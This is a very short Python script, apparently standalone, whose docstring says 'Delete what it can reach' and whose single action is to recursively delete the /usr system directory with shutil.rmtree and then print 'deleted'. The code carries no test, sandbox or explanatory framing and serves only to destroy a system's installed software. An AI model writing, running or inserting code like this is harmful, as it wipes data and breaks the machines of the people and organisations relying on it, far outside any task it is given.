"""Delete what it can reach."""

import shutil

shutil.rmtree("/usr")
print("deleted")
